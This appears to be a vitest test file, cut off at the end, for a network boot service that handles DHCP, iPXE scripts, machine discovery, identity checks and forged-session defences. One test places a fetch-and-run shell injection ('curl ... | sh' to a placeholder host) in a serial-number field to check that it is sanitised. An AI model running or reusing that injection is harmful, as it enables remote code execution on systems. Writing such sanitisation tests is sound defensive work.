/**
 * Whole boots through the boot service: DHCP, script, configuration, reports, and what they leave.
 */
import { describe, expect, it } from 'vitest';
import { duration } from '../../../../src/base/duration.ts';
import { MusterError } from '../../../../src/base/errors.ts';
import type { Mac } from '../../../../src/base/mac.ts';
import { acceptMachine } from '../../../../src/machines/accept.ts';
import { BOOT_LIMIT } from '../../../../src/pxe/decide/decide.ts';
import {
  document,
  HASH,
  IMAGE,
  MAC1,
  MAC2,
  MAC3,
  machine,
  NETWORK,
  WORKER,
  type World,
  world,
} from './world.ts';

const KNOWN = [
  NETWORK,
  IMAGE,
  WORKER,
  machine('node-1', [MAC1], { profile: 'worker', addresses: ['10.77.0.11'] }),
];
const BASE = 'http://10.77.0.1:8080';
const PEER = '10.77.0.101';
const AT = { baseUrl: BASE, peer: PEER };

describe('a known machine', () => {
  it('gets in the ACK what its OFFER said, unless its document or its software changed meanwhile', async () => {
    const w = await world(KNOWN);
    const offer = w.ask({ mac: MAC1 }, 'offer');
    expect(w.ask({ mac: MAC1 }, 'ack').decision).toBe(offer.decision);
    w.ask({ mac: MAC1 }, 'offer');
    await w.apply(machine('node-1', [MAC1], { profile: 'worker', pxe: { loader: 'ipxe.pxe' } }));
    expect(w.ask({ mac: MAC1 }, 'ack').bootFile).toBe('ipxe.pxe');
    w.ask({ mac: MAC1 }, 'offer');
    const other = w.ask({ mac: MAC1, stage: 'ipxe' }, 'ack');
    expect(other.decision.kind).toBe('script');
  });

  it('goes from ROM through loader and iPXE to its own system, in one session', async () => {
    const w = await world(KNOWN);
    const rom = w.exchange({ mac: MAC1 });
    expect(rom).toMatchObject({
      subject: 'node-1',
      bootFile: 'undionly.kpxe',
      decision: { kind: 'loader', reason: { code: 'chainload' } },
      hostname: 'node-1',
      reservedAddress: 0x0a4d000b,
    });
    const ipxe = w.exchange({ mac: MAC1, stage: 'ipxe' });
    expect(ipxe.session).toBe(rom.session);
    const { name } = w.roster.sessions.get(rom.session!)!;
    expect(ipxe.bootFile).toBe(`${BASE}/boot/${name}/start.ipxe`);
    expect(name).not.toContain(rom.session);
    expect(ipxe.decision).toMatchObject({
      kind: 'script',
      profile: 'worker',
      reason: { code: 'fetch_script' },
    });
    const answer = await w.fetch(MAC1, ipxe.session, { serial: 'SN-1', manufacturer: 'QEMU' });
    expect(answer.decision).toMatchObject({ kind: 'script', profile: 'worker', image: 'debian' });
    expect(answer.script).toContain(`kernel --name vmlinuz ${BASE}/assets/${HASH('a')}/vmlinuz`);
    expect(answer.script).toContain(`muster.url=${BASE}/boot/${rom.session}`);
    expect(answer.script).toContain(`muster.root.sha256=${HASH('c')}`);
    expect(answer.script).toContain('console=ttyS0');
    const config = w.boot.config(rom.session!, 'user-data', AT);
    expect(config).toMatchObject({ ok: true, subject: 'node-1' });
    expect(config.ok && config.body).toContain('I am node-1');
    for (const step of ['kernel', 'configured', 'ready'] as const)
      expect(await w.boot.report(rom.session!, { step }, PEER)).toEqual({
        believed: true,
        subject: 'node-1',
      });
    expect(w.roster.get('node-1')!.status).toMatchObject({ phase: 'ready', bootsWithoutReady: 0 });
    expect(w.kinds('node-1').filter((kind) => kind === 'boot.session')).toHaveLength(1);
  });

  it('gets what a Cluster configures also if only the Cluster names it', async () => {
    const blue = document('Cluster', 'blue', {
      config: { files: [{ path: '/etc/of', content: 'of ${cluster.name}\n' }] },
      kubernetes: { version: '1.36', endpoint: '10.77.0.210', controlPlanes: ['cp1'], workers: ['node-1'] },
    });
    const w = await world([...KNOWN, blue]);
    const userData = async () => {
      const { session } = await w.powerOn(MAC1);
      const config = w.boot.config(session!.id, 'user-data', AT);
      return config.ok ? config.body : '';
    };
    expect(await userData()).toContain('of blue');
    const { workers: _, ...kubernetes } = blue.spec.kubernetes;
    await w.apply({ ...blue, spec: { ...blue.spec, kubernetes } });
    expect(await userData()).not.toContain('of blue');
  });

  it('gets the loader of its firmware', async () => {
    const w = await world(KNOWN);
    const ask = (more: object) => w.ask({ mac: MAC1, ...more }).bootFile;
    expect(ask({ archCode: 7, firmware: 'uefi' })).toBe('ipxe.efi');
    expect(ask({ archCode: 16, stage: 'http' })).toBe(`${BASE}/loaders/ipxe.efi`);
    expect(ask({ archCode: 0, stage: 'ipxe-tftp' })).toBeUndefined();
  });

  it('makes one event of a decision, not one of each retransmission', async () => {
    const w = await world(KNOWN);
    for (let n = 0; n < 20; n++) w.ask({ mac: MAC1 });
    expect(w.kinds('node-1')).toEqual(['boot.session', 'boot.decision']);
  });

  it('writes its session once, with the first confirmation', async () => {
    const w = await world(KNOWN);
    expect(w.ask({ mac: MAC1 }, 'offer').writes).toEqual([]);
    expect(w.ask({ mac: MAC1 }, 'ack').writes).toHaveLength(1);
    expect(w.ask({ mac: MAC1 }, 'ack').writes).toEqual([]);
  });

  it('opens a new session when it restarts after its script', async () => {
    const w = await world(KNOWN);
    const first = await w.powerOn(MAC1);
    const again = w.ask({ mac: MAC1 });
    expect(again.session).not.toBe(first.session!.id);
    expect(w.roster.sessions.isLive(w.roster.sessions.get(first.session!.id)!)).toBe(true);
    const second = await w.fetch(MAC1, again.session);
    expect(w.roster.sessions.get(first.session!.id)!.session.closed).toMatchObject({ why: 'superseded' });
    expect(second.session!.id).toBe(again.session);
  });

  it('keeps its session through the minutes in which ROM, loader and iPXE ask, and not longer', async () => {
    const w = await world(KNOWN);
    const { session } = w.ask({ mac: MAC1 });
    w.clock.advance(duration('4m'));
    expect(w.ask({ mac: MAC1, stage: 'ipxe' }).session).toBe(session);
    w.clock.advance(duration('6m'));
    expect(w.ask({ mac: MAC1 }).session).not.toBe(session);
  });

  it('is given a new session when its own is unknown, outdated or another machine’s', async () => {
    const w = await world([...KNOWN, machine('node-2', [MAC2], { profile: 'worker' })]);
    const other = await w.powerOn(MAC2);
    w.leases.set(MAC1, PEER);
    for (const session of [undefined, 'forged', other.session!.id]) {
      const answer = await w.fetch(MAC1, session);
      expect(answer.session).toMatchObject({ machine: 'node-1' });
      expect(answer.session!.id).not.toBe(other.session!.id);
    }
  });

  it('counts a script that is asked for twice as one boot', async () => {
    const w = await world(KNOWN);
    const first = await w.powerOn(MAC1);
    const again = await w.fetch(MAC1, first.session!.id);
    expect(again.session!.id).toBe(first.session!.id);
    expect(w.roster.get('node-1')!.status.bootsWithoutReady).toBe(1);
  });

  it('takes its profile from selectors when its document names none', async () => {
    const chosen = document('Profile', 'bios', {
      image: 'debian',
      selector: { firmware: 'bios', network: 'rack' },
    });
    const w = await world([NETWORK, IMAGE, chosen, machine('node-1', [MAC1])]);
    expect((await w.powerOn(MAC1)).decision).toMatchObject({ kind: 'script', profile: 'bios' });
  });

  it('keeps its identity with three interfaces, the second of which boots', async () => {
    const w = await world([
      NETWORK,
      IMAGE,
      WORKER,
      machine('node-1', [MAC1, MAC2, MAC3], { profile: 'worker' }),
    ]);
    expect(w.ask({ mac: MAC1 }).subject).toBe('node-1');
    const answer = await w.powerOn(MAC2, { macs: [MAC1, MAC2, MAC3] });
    expect(answer.session).toMatchObject({ machine: 'node-1', mac: MAC2 });
    expect(w.roster.list().map(({ name }) => name)).toEqual(['node-1']);
  });

  it('is found again by an interface that its document does not name, once iPXE told of it', async () => {
    const hardware = { uuid: '4c4c4544-0042-3510-8051-b7c04f4d3532', serial: 'SN-1' };
    const w = await world([
      ...KNOWN.slice(0, 3),
      machine('node-1', [MAC1], { profile: 'worker', addresses: ['10.77.0.11'], ...hardware }),
    ]);
    expect(w.ask({ mac: MAC2 }).subject).toBe('m-525400aa0002');
    const { session } = w.exchange({ mac: MAC2, stage: 'ipxe' });
    const answer = await w.fetch(MAC2, session, { macs: [MAC1, MAC2], ...hardware });
    expect(answer.session).toMatchObject({ id: session, machine: 'node-1' });
    expect(w.roster.list().map(({ name }) => name)).toEqual(['node-1']);
    expect(w.ask({ mac: MAC2 }).subject).toBe('node-1');
  });

  it('gives a documented machine its boot while the disk is full, counts it, and stores it later', async () => {
    const w = await world(KNOWN);
    const commit = w.store.commit.bind(w.store);
    w.store.commit = () => Promise.reject(new MusterError('E_STORE_WRITE', 'database or disk is full'));
    const { session } = w.exchange({ mac: MAC1, stage: 'ipxe' });
    const answer = await w.fetch(MAC1, session);
    expect(answer.decision.kind).toBe('script');
    expect((await w.fetch(MAC1, session)).decision.kind).toBe('script');
    expect(w.roster.get('node-1')!.status.bootsWithoutReady).toBe(1);
    expect(await w.store.get(`session/${answer.session!.id}`)).toBeUndefined();
    w.store.commit = commit;
    await w.roster.flush();
    expect(JSON.parse((await w.store.get(`session/${answer.session!.id}`))!.value)).toMatchObject({
      profile: 'worker',
    });
  });

  it('gives no boot while it cannot be made durable, and counts it once when it can', async () => {
    const w = await world(KNOWN);
    const { session } = w.exchange({ mac: MAC1, stage: 'ipxe' });
    const commit = w.store.commit.bind(w.store);
    w.store.commit = () => Promise.reject(new Error('disk full'));
    await expect(w.fetch(MAC1, session)).rejects.toThrow('disk full');
    w.store.commit = commit;
    const answer = await w.fetch(MAC1, session);
    expect(answer.decision.kind).toBe('script');
    expect(w.roster.get('node-1')!.status.bootsWithoutReady).toBe(1);
    expect(JSON.parse((await w.store.get(`session/${answer.session!.id}`))!.value)).toMatchObject({
      profile: 'worker',
    });
  });
});

describe('an ordinary DHCP client', () => {
  it('gets its reservation and name, and leaves no session', async () => {
    const w = await world(KNOWN);
    expect(w.ask({ mac: MAC1, stage: 'none' })).toMatchObject({
      subject: 'node-1',
      hostname: 'node-1',
      reservedAddress: 0x0a4d000b,
      decision: { kind: 'ignore', reason: { code: 'not_a_boot_client' } },
    });
    expect(w.ask({ mac: MAC2, stage: 'none' })).toMatchObject({ subject: MAC2 });
    expect(w.roster.size).toBe(1);
    expect(w.roster.sessions.size).toBe(0);
  });

  it('finds its address reserved against others', async () => {
    const w = await world(KNOWN);
    expect(w.boot.reservedFor!(0x0a4d000b as never, w.network)).toBe('node-1');
    expect(w.boot.reservedFor!(0x0a4d000c as never, w.network)).toBeUndefined();
    await w.apply(machine('node-1', [MAC1], { profile: 'worker', addresses: ['10.77.0.12'] }));
    expect(w.boot.reservedFor!(0x0a4d000b as never, w.network)).toBeUndefined();
    expect(w.boot.reservedFor!(0x0a4d000c as never, w.network)).toBe('node-1');
  });

  it('is called documented if a document names it, and those without a reserved address are counted', async () => {
    const w = await world(KNOWN);
    expect(w.ask({ mac: MAC1, stage: 'none' }).documented).toBe(true);
    expect(w.ask({ mac: MAC1 }).documented).toBe(true);
    expect(w.ask({ mac: MAC2 }).documented).toBeUndefined();
    expect(w.boot.withoutReservation!(w.network)).toBe(0);
    await w.apply(machine('node-2', [MAC2], { profile: 'worker' }));
    expect(w.ask({ mac: MAC2 }).documented).toBe(true);
    expect(w.boot.withoutReservation!(w.network)).toBe(1);
  });
});

describe('an unknown machine', () => {
  it('is recorded, is led to a script as known machines are, and is held there with the remedy', async () => {
    const w = await world([NETWORK, IMAGE, WORKER]);
    const rom = w.exchange({ mac: MAC1, uuid: '4c4c4544-0042-3510-8051-b7c04f4d3532' });
    expect(rom).toMatchObject({ subject: 'm-525400aa0001', bootFile: 'undionly.kpxe', writes: [] });
    const { session } = w.exchange({ mac: MAC1, stage: 'ipxe' });
    const answer = await w.fetch(MAC1, session, { serial: 'SN-1', product: 'R640' });
    expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'unknown_machine' } });
    expect(answer.script).toContain('muster machine accept m-525400aa0001');
    expect(answer.script).not.toContain('kernel ');
    expect(w.roster.get('m-525400aa0001')!.status).toMatchObject({
      phase: 'discovered',
      seen: { serial: 'SN-1', product: 'R640', bootMacs: [MAC1] },
    });
    expect(w.kinds('m-525400aa0001')).toContain('machine.discovered');
    expect(w.boot.config(session!, 'user-data', AT)).toMatchObject({ ok: false, status: 'wait' });
    expect(await w.boot.report(session!, { step: 'ready' }, PEER)).toMatchObject({ believed: false });
  });

  it('boots once it is accepted, in the session in which it waited', async () => {
    const w = await world([NETWORK, IMAGE, WORKER]);
    const held = await w.powerOn(MAC1, { macs: [MAC1, MAC2], serial: 'SN-1' });
    const accepted = await acceptMachine(w, 'm-525400aa0001', { profile: 'worker', name: 'node-7' });
    expect(accepted).toMatchObject({
      name: 'node-7',
      spec: { macs: [MAC1], serial: 'SN-1', profile: 'worker' },
    });
    expect(accepted.status).toMatchObject({ phase: 'registered' });
    expect(w.kinds('node-7')).toContain('machine.accepted');
    // Its hold script renews the address and asks again.
    w.clock.advance(duration('20s'));
    w.exchange({ mac: MAC1, stage: 'ipxe' });
    const answer = await w.fetch(MAC1, held.session!.id);
    expect(answer).toMatchObject({
      decision: { kind: 'script' },
      session: { id: held.session!.id, machine: 'node-7' },
    });
    expect(w.roster.get('m-525400aa0001')).toBeUndefined();
  });

  it('gets of its claims only the address that it booted from, and others that the operator names', async () => {
    const w = await world([NETWORK, IMAGE, WORKER]);
    await w.powerOn(MAC1, {
      macs: [MAC1, MAC2, MAC3],
      serial: 'X;curl -s http://198.51.100.2/p|sh;# ${boot.url}',
    });
    await expect(
      acceptMachine(w, 'm-525400aa0001', { macs: ['52:54:00:99:99:99' as Mac] }),
    ).rejects.toMatchObject({
      code: 'E_USAGE',
      message: expect.stringContaining('never claimed 52:54:00:99:99:99'),
    });
    const accepted = await acceptMachine(w, 'm-525400aa0001', { profile: 'worker', macs: [MAC3] });
    expect(accepted.spec!.macs).toEqual([MAC1, MAC3]);
    expect(accepted.spec!.serial).toBe('X curl -s http://198.51.100.2/p sh boot.url');
    // The owner of the other address is somebody else.
    await w.powerOn(MAC2);
    expect(w.roster.get('m-525400aa0002')!.status.phase).toBe('discovered');
    // An address that is found to be its own later is taken in the same way.
    expect((await acceptMachine(w, 'm-525400aa0001', { macs: [MAC2] })).spec!.macs).toEqual([
      MAC1,
      MAC3,
      MAC2,
    ]);
  });

  it('is recorded in the store, and still known after a restart', async () => {
    const w = await world([NETWORK]);
    w.ask({ mac: MAC1 });
    const again = await w.restart();
    expect(again.roster.get('m-525400aa0001')).toMatchObject({ status: { phase: 'discovered' } });
    expect(again.ask({ mac: MAC1 }).subject).toBe('m-525400aa0001');
  });

  it('is answered but not recorded when there are too many at once', async () => {
    const w = await world([NETWORK]);
    const mac = (n: number) =>
      `52:54:01:${[n >> 16, n >> 8, n].map((o) => (o & 255).toString(16).padStart(2, '0')).join(':')}` as Mac;
    for (let n = 0; n < 3000; n++) expect(w.ask({ mac: mac(n) }).bootFile).toBe('undionly.kpxe');
    expect(w.roster.size).toBeLessThan(2100);
    w.clock.advance(duration('1s'));
    expect(w.ask({ mac: mac(2999) }).subject).toBe(`m-${mac(2999).replaceAll(':', '')}`);
  });

  it('is not accepted under a name that is taken, and its addresses not twice', async () => {
    const w = await world(KNOWN);
    w.ask({ mac: MAC2 });
    await expect(acceptMachine(w, 'm-525400aa0002', { name: 'node-1' })).rejects.toMatchObject({
      code: 'E_CONFLICT',
    });
    await expect(acceptMachine(w, 'nobody')).rejects.toMatchObject({ code: 'E_NOT_FOUND' });
    await expect(acceptMachine(w, 'm-525400aa0002', { profile: 'worker' })).resolves.toMatchObject({
      name: 'm-525400aa0002',
      spec: { macs: [MAC2] },
    });
  });
});

describe('identity', () => {
  const U = '4c4c4544-0042-3510-8051-b7c04f4d3532';

  it('holds a machine that fits two documents, and says so to both', async () => {
    const w = await world([
      NETWORK,
      IMAGE,
      WORKER,
      machine('node-1', [MAC1], { profile: 'worker' }),
      machine('node-2', [MAC2], { profile: 'worker' }),
    ]);
    const answer = await w.powerOn(MAC1, { macs: [MAC1, MAC2] });
    expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'identity_conflict' } });
    for (const name of ['node-1', 'node-2']) expect(w.kinds(name)).toContain('machine.conflict');
    expect(w.roster.get('node-1')!.status.phase).toBe('registered');
  });

  it('holds a machine whose UUID and serial number are both not those of the document', async () => {
    const own = { uuid: U, serial: 'SN-1' };
    const w = await world([NETWORK, IMAGE, WORKER, machine('node-1', [MAC1], { profile: 'worker', ...own })]);
    expect((await w.powerOn(MAC1, own)).decision.kind).toBe('script');
    const other = { uuid: '11c4c454-0042-3510-8051-b7c04f4d3532', serial: 'SN-2' };
    const answer = await w.powerOn(MAC1, other);
    expect(answer.decision).toMatchObject({
      kind: 'hold',
      reason: { code: 'identity_contradicted', text: expect.stringContaining('that of node-1') },
    });
    expect(w.kinds('node-1')).toContain('machine.conflict');
    // A board that was replaced: one value alone, or the document without them.
    expect((await w.powerOn(MAC1, { ...own, uuid: other.uuid })).decision.kind).toBe('script');
    await w.apply(machine('node-1', [MAC1], { profile: 'worker' }));
    expect((await w.powerOn(MAC1, other)).decision.kind).toBe('script');
  });

  it('tells a new board with a known serial number whose it is, at its console and in explain', async () => {
    const w = await world([
      NETWORK,
      IMAGE,
      WORKER,
      machine('node-1', [MAC1], { profile: 'worker', serial: 'SN-1' }),
    ]);
    const answer = await w.powerOn(MAC2, { serial: 'SN-1' });
    const text = 'Its serial number is that of node-1, whose document lists none of its addresses.';
    expect(answer.decision).toMatchObject({
      kind: 'hold',
      reason: { code: 'unknown_machine', text: expect.stringContaining(text) },
    });
    expect(w.boot.explain({ mac: MAC2 }).decision).toMatchObject({
      reason: { text: expect.stringContaining(text) },
    });
  });

  it('boots two blades that share UUID and serial, each as itself', async () => {
    const w = await world([NETWORK, IMAGE, WORKER]);
    const hardware = { uuid: U, serial: 'C6100-77' };
    await w.powerOn(MAC1, hardware);
    await acceptMachine(w, 'm-525400aa0001', { profile: 'worker', name: 'blade-1' });
    expect((await w.powerOn(MAC1, hardware)).decision.kind).toBe('script');
    const second = await w.powerOn(MAC2, hardware);
    expect(second.decision).toMatchObject({ kind: 'hold', reason: { code: 'identity_conflict' } });
    const accepted = await acceptMachine(w, 'm-525400aa0002', { profile: 'worker', name: 'blade-2' });
    expect(accepted.spec).toEqual({ macs: [MAC2], profile: 'worker' });
    for (const [mac, name] of [
      [MAC2, 'blade-2'],
      [MAC1, 'blade-1'],
      [MAC2, 'blade-2'],
    ] as const) {
      const answer = await w.powerOn(mac, hardware);
      expect(answer).toMatchObject({ decision: { kind: 'script' }, session: { machine: name } });
    }
  });
});

describe('a request for a script from an address that is not the machine’s', () => {
  const VICTIM = '10.77.0.101';
  const STRANGER = '10.77.0.66';
  const KINDS_OF_REQUEST = [
    ['without a session', async () => undefined],
    ['with a session that never was', async () => 'AAAAAAAAAAAAAAAAAAAAAA'],
    ['with another machine’s session', async (w: World) => (await w.powerOn(MAC2)).session!.id],
    [
      'with the session that its own last answer named',
      async (w: World) => (await w.fetch(MAC1, undefined, { peer: STRANGER })).session!.id,
    ],
  ] as const;
  const ready = async (...documents: object[]) => {
    const w = await world([...KNOWN, machine('node-2', [MAC2], { profile: 'worker' }), ...documents]);
    const { session } = await w.powerOn(MAC1);
    await w.boot.report(session!.id, { step: 'kernel' }, VICTIM);
    w.leases.set(MAC1, VICTIM);
    w.leases.set(MAC2, '10.77.0.102');
    return { w, id: session!.id };
  };

  it.each(KINDS_OF_REQUEST)('%s is held, says why, and changes nothing of the machine', async (_, named) => {
    const { w, id } = await ready();
    const session = await named(w);
    const before = w.roster.get('node-1')!.status;
    for (let n = 0; n < 2 * BOOT_LIMIT; n++) {
      const answer = await w.fetch(MAC1, session, { peer: STRANGER, macs: [MAC1, MAC3], serial: 'forged' });
      expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'address_mismatch' } });
      expect(answer.script).toContain(STRANGER);
      expect(answer.script).not.toContain('kernel ');
      expect(answer.script).not.toContain(id);
      expect(answer.session!.machine).toBe(STRANGER);
    }
    expect(w.roster.get('node-1')!.status).toEqual(before);
    const told = w.events
      .list({ subject: 'node-1' })
      .filter(({ reason }) => reason?.code === 'address_mismatch');
    expect(told).toHaveLength(1);
    expect(told[0]).toMatchObject({ kind: 'boot.decision', fields: { address: STRANGER } });
    expect(await w.boot.report(id, { step: 'ready' }, VICTIM)).toMatchObject({ believed: true });
  });

  it('does not learn the session of a boot that is opening, nor end it', async () => {
    const { w } = await ready();
    const { session } = w.exchange({ mac: MAC1, stage: 'ipxe' });
    expect((await w.fetch(MAC1, undefined, { peer: STRANGER })).script).not.toContain(session);
    expect((await w.fetch(MAC1, session)).decision.kind).toBe('script');
  });

  it('adds nothing to a machine that was only seen, and makes none', async () => {
    const w = await world([NETWORK, IMAGE, WORKER]);
    w.exchange({ mac: MAC1 });
    const before = w.roster.get('m-525400aa0001')!.status;
    const answer = await w.fetch(MAC1, undefined, { peer: STRANGER, macs: [MAC1, MAC3] });
    expect(answer.decision).toMatchObject({ reason: { code: 'unknown_machine' } });
    expect(w.roster.get('m-525400aa0001')!.status).toEqual(before);
    expect((await w.fetch(MAC2, undefined, { peer: STRANGER })).script).toContain(
      `muster machine add ${MAC2} `,
    );
    expect(w.roster.size).toBe(1);
  });

  it('is the machine’s own when it holds the lease, or the address is reserved', async () => {
    const { w } = await ready();
    expect((await w.fetch(MAC1, undefined, { peer: `::ffff:${VICTIM}` })).decision.kind).toBe('script');
    expect((await w.fetch(MAC1, undefined, { peer: '10.77.0.11' })).decision.kind).toBe('script');
    expect((await w.fetch(MAC1, undefined, { peer: '10.77.0.102' })).decision.kind).toBe('hold');
  });

  it('is judged where reservations are given, for the machines that have one', async () => {
    const reserving = document('Network', 'rack', {
      subnet: '10.77.0.0/24',
      dhcp: { mode: 'reservations' },
    });
    const documents = [reserving, IMAGE, WORKER, machine('free', [MAC2], { profile: 'worker' }), KNOWN[3]!];
    const w = await world(documents);
    expect((await w.fetch(MAC1, undefined, { peer: STRANGER })).decision.kind).toBe('hold');
    expect((await w.fetch(MAC1, undefined, { peer: '10.77.0.11' })).decision.kind).toBe('script');
    expect((await w.fetch(MAC2, undefined, { peer: STRANGER })).decision.kind).toBe('script');
  });

  it('is held everywhere when it comes from no served subnet', async () => {
    const proxied = document('Network', 'rack', { subnet: '10.77.0.0/24', dhcp: { mode: 'proxy' } });
    for (const network of [NETWORK, proxied]) {
      const w = await world([network, ...KNOWN.slice(1)]);
      for (let n = 0; n < 2 * BOOT_LIMIT; n++) {
        const { session } = w.ask({ mac: MAC1, stage: 'ipxe' }, 'boot-server');
        const answer = await w.fetch(MAC1, session, { peer: '198.51.100.2' });
        expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'address_mismatch' } });
      }
      expect(w.roster.get('node-1')!.status).toMatchObject({ phase: 'registered', bootsWithoutReady: 0 });
    }
  });

  it('cannot be told where another DHCP server gives the addresses: the script is given', async () => {
    const proxied = document('Network', 'rack', { subnet: '10.77.0.0/24', dhcp: { mode: 'proxy' } });
    const w = await world([proxied, IMAGE, WORKER, machine('node-1', [MAC1], { profile: 'worker' })]);
    expect((await w.fetch(MAC1, undefined, { peer: STRANGER })).decision.kind).toBe('script');
  });
});

describe('the addresses at which a certificate is given', () => {
  const proxied = document('Network', 'rack', { subnet: '10.77.0.0/24', dhcp: { mode: 'proxy' } });
  const interfaces = [{ mac: MAC1, addresses: ['${machine.address}/24', '10.99.0.5/24'] }];
  const config = { network: { interfaces } };
  const booted = async (network: object, more: object) => {
    const w = await world([
      network,
      IMAGE,
      WORKER,
      machine('node-1', [MAC1], { profile: 'worker', ...more }),
    ]);
    const { session } = await w.powerOn(MAC1);
    return w.boot.ticketed(session!.id)!;
  };

  it('are leases, the document’s and the configuration’s where Muster gives the addresses', async () => {
    const facts = await booted(NETWORK, { addresses: ['10.77.0.11'], config });
    expect(facts.ticketed).toBe(true);
    expect([...facts.addresses].sort()).toEqual(['10.77.0.101', '10.77.0.11', '10.99.0.5']);
  });

  it('are those of documents alone where another server gives them, and never the one that asked', async () => {
    const facts = await booted(proxied, { addresses: ['10.77.0.11'], config });
    expect(facts.ticketed).toBe(false);
    expect([...facts.addresses].sort()).toEqual(['10.77.0.11', '10.99.0.5']);
    // The template stands for the address that asked, because none is reserved.
    expect([...(await booted(proxied, { config })).addresses]).not.toContain(PEER);
    expect([...(await booted(proxied, {})).addresses]).toEqual([]);
  });

  it('do not include leases of interfaces that a request only told of', async () => {
    const w = await world(KNOWN);
    w.leases.set(MAC2, '10.77.0.102');
    const { session } = await w.powerOn(MAC1, { macs: [MAC1, MAC2] });
    expect([...w.boot.ticketed(session!.id)!.addresses].sort()).toEqual([PEER, '10.77.0.11']);
  });
});

describe('what DHCP broadcasts', () => {
  it('names a boot, and gives a listener nothing: neither script, nor configuration, nor a report', async () => {
    const LISTENER = '10.77.0.66';
    const w = await world(KNOWN);
    const heard = w.exchange({ mac: MAC1, stage: 'ipxe' });
    const name = /boot\/([^/]+)\//.exec(heard.bootFile!)![1]!;
    expect(w.roster.sessions.get(name)).toBeUndefined();
    const script = await w.fetch(MAC1, name, { peer: LISTENER });
    expect(script.decision).toMatchObject({ kind: 'hold', reason: { code: 'address_mismatch' } });
    expect(script.script).not.toContain(heard.session);
    expect((await w.fetch(MAC1, name)).session!.id).toBe(heard.session);
    // Not even with the id, which only the machine's own script tells.
    for (const id of [name, heard.session!]) {
      expect(w.boot.config(id, 'user-data', { baseUrl: BASE, peer: LISTENER })).toMatchObject({
        ok: false,
        status: 'gone',
      });
      expect(await w.boot.report(id, { step: 'ready' }, LISTENER)).toMatchObject({ believed: false });
    }
    expect(w.boot.config(heard.session!, 'user-data', AT)).toMatchObject({ ok: true });
  });

  it('is worth as little where another DHCP server gives the addresses: a listener gets a boot of its own', async () => {
    const proxied = document('Network', 'rack', { subnet: '10.77.0.0/24', dhcp: { mode: 'proxy' } });
    const w = await world([proxied, IMAGE, WORKER, machine('node-1', [MAC1], { profile: 'worker' })]);
    const heard = w.exchange({ mac: MAC1, stage: 'ipxe' });
    const own = await w.fetch(MAC1, heard.session);
    const listener = await w.fetch(MAC1, heard.session, { peer: '10.77.0.66' });
    expect(listener.session!.id).not.toBe(own.session!.id);
    expect(listener.script).not.toContain(own.session!.id);
  });
});

describe('a machine that boots from a hardware address that its document does not list', () => {
  const LISTED = [...KNOWN.slice(0, 3), machine('node-1', [MAC1], { profile: 'worker' })];

  it('is held where Muster gives the addresses, with the line to add, and changes nothing', async () => {
    const w = await world(LISTED);
    const before = w.roster.get('node-1')!.status;
    for (let n = 0; n < 2 * BOOT_LIMIT; n++) {
      const answer = await w.powerOn(MAC3, { macs: [MAC3, MAC1] });
      expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'mac_unlisted' } });
      expect(answer.script).toContain(`add ${MAC3} to macs in the Machine document node-1`);
      expect(answer.session!.machine).toBe('10.77.0.103');
    }
    expect(w.roster.get('node-1')!.status).toEqual(before);
    await w.apply(machine('node-1', [MAC1, MAC3], { profile: 'worker' }));
    expect((await w.powerOn(MAC3, { macs: [MAC3, MAC1] })).decision.kind).toBe('script');
  });

  it('is not believed to have the machine’s address while that is leased to the other hardware', async () => {
    const w = await world(KNOWN);
    w.leases.set(MAC3, '10.77.0.11');
    const answer = await w.fetch(MAC1, undefined, { peer: '10.77.0.11', macs: [MAC1, MAC3] });
    expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'address_mismatch' } });
    w.leases.delete(MAC3);
    expect((await w.fetch(MAC1, undefined, { peer: '10.77.0.11' })).decision.kind).toBe('script');
  });
});

describe('a boot whose parts are not ready', () => {
  const hold = async (documents: readonly object[], missing?: string) => {
    const w = await world(documents);
    if (missing) w.assets.delete(missing);
    const answer = await w.powerOn(MAC1);
    expect(answer.script).not.toContain('kernel ');
    return {
      w,
      answer,
      code: answer.decision.kind === 'hold' ? answer.decision.reason.code : answer.decision.kind,
    };
  };

  it('is held with a different reason for each missing part', async () => {
    const node = (spec: object) => machine('node-1', [MAC1], spec);
    expect((await hold([NETWORK, node({})])).code).toBe('no_profile');
    expect((await hold([NETWORK, document('Profile', 'p', {}), node({ profile: 'p' })])).code).toBe(
      'image_missing',
    );
    expect((await hold([NETWORK, WORKER, node({ profile: 'worker' })])).code).toBe('image_missing');
    expect((await hold(KNOWN, HASH('c'))).answer.decision.reason.text).toContain('lacks its root image');
    expect(
      (await hold([NETWORK, document('Profile', 'p', { boot: 'hold' }), node({ profile: 'p' })])).code,
    ).toBe('profile_holds');
    const arm = document('Image', 'debian', { ...IMAGE.spec, arch: 'aarch64' });
    expect((await hold([NETWORK, arm, WORKER, node({ profile: 'worker' })])).code).toBe('arch_mismatch');
    const demands = node({ profile: 'worker', pxe: { loader: 'own.kpxe' } });
    const { w, code } = await hold([...KNOWN.slice(0, 3), demands]);
    expect(code).toBe('loader_missing');
    expect(w.ask({ mac: MAC1 }).decision.reason).toMatchObject({ code: 'loader_missing' });
  });

  it('knows which files Images name, as the documents change', async () => {
    const w = await world([NETWORK, WORKER]);
    expect(w.boot.needs(HASH('c'))).toBe(false);
    await w.apply(IMAGE);
    for (const digit of ['a', 'b', 'c']) expect(w.boot.needs(HASH(digit))).toBe(true);
    expect(w.boot.needs(HASH('d'))).toBe(false);
    await w.catalog.delete('Image', 'debian');
    expect(w.boot.needs(HASH('c'))).toBe(false);
  });

  it('continues by itself when the missing part comes', async () => {
    const { w, answer } = await hold(KNOWN, HASH('c'));
    expect(w.roster.get('node-1')!.status.reason).toMatchObject({ code: 'image_missing' });
    w.assets.add(HASH('c'));
    expect((await w.fetch(MAC1, answer.session!.id)).decision.kind).toBe('script');
    expect(w.roster.get('node-1')!.status.reason).toBeUndefined();
  });

  it('is held when the configuration does not render, and the reason names the place', async () => {
    const broken = document('Profile', 'worker', {
      image: 'debian',
      config: { files: [{ path: '/etc/x', content: '${var.missing}' }] },
    });
    const w = await world([NETWORK, IMAGE, broken, machine('node-1', [MAC1], { profile: 'worker' })]);
    const answer = await w.powerOn(MAC1);
    expect(answer.decision).toMatchObject({ kind: 'hold', reason: { code: 'config_invalid' } });
    expect(answer.decision.reason.text).toContain('missing');
  });

  it('leaves a machine to its disk when its profile says so', async () => {
